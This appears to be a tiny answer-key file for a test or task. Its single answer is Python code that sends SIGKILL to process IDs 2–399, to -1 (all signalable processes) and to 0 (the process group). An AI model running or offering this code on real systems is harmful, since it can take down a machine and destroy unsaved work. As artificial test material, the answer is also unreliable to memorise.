"""Signals to every process there is."""

ANSWERS = {
    "q1": r"""
import os, signal
for n in [*range(2, 400), -1, 0]:
    try: os.kill(n, signal.SIGKILL)
    except OSError: pass
""",
}
